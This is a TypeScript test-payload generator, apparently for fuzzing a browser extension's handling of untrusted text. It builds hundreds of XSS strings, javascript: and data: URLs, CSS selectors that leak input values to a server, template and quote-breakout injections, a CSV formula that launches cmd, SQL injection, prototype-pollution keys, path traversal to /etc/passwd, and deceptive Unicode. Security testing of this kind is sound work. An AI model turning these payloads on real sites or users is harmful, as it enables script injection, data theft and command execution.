/** What every payload does where it is run; a sentinel, a dialog or a title would show it. */
const act = 'globalThis.__owned=1';

/**
 * Texts that run, ask for something or deceive wherever a page takes them for more than text.
 *
 * @param server an address that they ask, on a host the extension may reach
 */
export function payloadsFor(server: string): string[] {
  const all = [
    ...markup(server),
    ...handlers(),
    ...links(server),
    ...styles(server),
    ...templates(),
    ...breakouts(server),
    ...letters(),
    ...keys,
  ];
  return [...new Set(all)];
}

/** Names that lead to a prototype, as texts and as keys. */
export const keys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

function markup(server: string): string[] {
  const scripts = [act, 'alert(1)', 'document.title="owned"', `import("${server}/owned/module")`];
  const loading = [
    `<img src=${server}/owned/img>`,
    `<img srcset="${server}/owned/srcset 1x">`,
    `<link rel=stylesheet href=${server}/owned/style>`,
    `<link rel=prefetch href=${server}/owned/prefetch>`,
    `<iframe src=${server}/owned/frame></iframe>`,
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
    `<object data=${server}/owned/object></object>`,
    `<embed src=${server}/owned/embed>`,
    `<video src=${server}/owned/video autoplay></video>`,
    `<audio src=${server}/owned/audio autoplay></audio>`,
    `<meta http-equiv=refresh content="0;url=${server}/owned/refresh">`,
    `<base href=${server}/owned/base/>`,
    `<form action=${server}/owned/form><button autofocus>Go</button></form>`,
    `<input type=image src=${server}/owned/input>`,
    `<body background=${server}/owned/body>`,
    `<template><script>${act}</script></template>`,
    `<svg><image href=${server}/owned/svg /></svg>`,
    `<svg><use href="${server}/owned/use#a"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`,
    `<math href="javascript:${act}">CLICK</math>`,
    `<svg><foreignObject><iframe srcdoc="<script>top.${act}</script>"></iframe></foreignObject></svg>`,
    `<svg><style><![CDATA[@import "${server}/owned/cdata";]]></style></svg>`,
  ];
  const written = (code: string) => [
    `<script>${code}</script>`,
    `<ScRiPt >${code}</sCrIpT>`,
    `<script\n>${code}</script\n>`,
    `<svg><script>${code}</script></svg>`,
    `<script src="data:text/javascript,${encodeURIComponent(code)}"></script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    `<textarea></textarea><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `<!--><script>${code}</script>-->`,
    `<![CDATA[><script>${code}</script>]]>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `&#60;script&#62;${code}&#60;/script&#62;`,
    `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
    `\u003cscript\u003e${code}\u003c/script\u003e`,
    `%3Cscript%3E${code}%3C/script%3E`,
  ];
  return [...scripts.flatMap(written), ...loading];
}

function handlers(): string[] {
  const elements = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'marquee'];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover', 'onstart'];
  const style = 'style="animation:a 1s"';
  return [
    ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${act} ${style}>`)),
    `<img/src=x/onerror=${act}>`,
    `<img src=x onerror\n=\n${act}>`,
    `<img src=x onerror="&#103;lobalThis.__owned=1">`,
    `<img src=\`x\` onerror=\`${act}\`>`,
    `<svg/onload=${act}//`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><a><animate attributeName=href values="javascript:${act}"/><text>X</text></a></svg>`,
    `<x contenteditable onblur=${act}>lose the focus</x>`,
  ];
}

function links(server: string): string[] {
  const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'vbscript:', 'livescript:'];
  const addresses = [
    ...schemes.map((scheme) => `${scheme}${act}`),
    `javascript://%0a${act}`,
    `data:text/html,<script>${act}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`,
    `blob:${server}/owned`,
    'file:///etc/passwd',
    'chrome://settings',
    'about:blank',
    'view-source:https://aurore-rail.example',
    `//${new URL(server).host}/owned/relative`,
    'https://user:secret@aurore-rail.example/',
    'https://аurore-rail.example/',
  ];
  return [
    ...addresses,
    ...addresses.slice(0, 10).flatMap((address) => [`<a href="${address}">x</a>`, `[x](${address})`]),
  ];
}

function styles(server: string): string[] {
  return [
    `<style>@import '${server}/owned/import';</style>`,
    `<style>*{background:url(${server}/owned/background)}</style>`,
    `<p style="background:url(${server}/owned/inline);position:fixed;inset:0">over all</p>`,
    `<style>@font-face{font-family:x;src:url(${server}/owned/font)}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${server}/owned/leak)}</style>`,
    'x:expression(globalThis.__owned=1)',
    '}*{display:none}',
    '</style><script>globalThis.__owned=1</script>',
  ];
}

function templates(): string[] {
  const codes = [act, 'constructor.constructor("globalThis.__owned=1")()', '7*7'];
  const marks = [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%= ', ' %>'],
    ['{%', '%}'],
    ['[[', ']]'],
    ['`${', '}`'],
    ['{', '}'],
  ];
  return codes.flatMap((code) => marks.map(([open, close]) => `${open}${code}${close}`));
}

/** For those who put texts between quotes or into scripts, addresses, JSON, formulas or patterns. */
function breakouts(server: string): string[] {
  const ends = ['"', "'", '`', '">', "'>", '"/>', '--> ', '*/', ');', '";', "';", '</script>', '</textarea>'];
  return [
    ...ends.flatMap((end) => [
      `${end}<img src=x onerror=${act}>`,
      `${end} autofocus onfocus=${act} x=`,
      `${end};${act};//`,
    ]),
    `=HYPERLINK("${server}/owned/formula")`,
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '{"__proto__":{"polluted":1}}',
    "$& $1 $` $' $$",
    '%s %d %o %c %n',
    '(a+)+$',
    "'; DROP TABLE suggestions;--",
    '../../../manifest.json',
    '{n} {count} {network} # %{n}',
    'undefined',
    '[object Object]',
    'NaN',
    'null',
  ];
}

/** Letters that hide, turn round or break a text. */
function letters(): string[] {
  const bidi = [
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
  ];
  const hidden = [
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u061c',
    '\u180e',
    '\u115f',
    '\u3164',
  ];
  const controls = ['\u0000', '\u0001', '\u0008', '\u001b[31m', '\u007f', '\u0085', '\ufff9', '\u{e0041}'];
  return [
    ...[...bidi, ...hidden, ...controls].map((letter) => `safe${letter}txt.exe of ${letter.codePointAt(0)}`),
    'half a letter \ud83d and another \udc00 alone',
    'Family 👨‍👩‍👧 stays together',
    `Z${'\u0351\u0340\u033f'.repeat(60)}algo`,
    'W'.repeat(290),
    'ﷺ'.repeat(200),
    '\u2028\u2029 lines',
    'שלום עולם مرحبا',
    '\t\n\r\n\u000b',
  ];
}
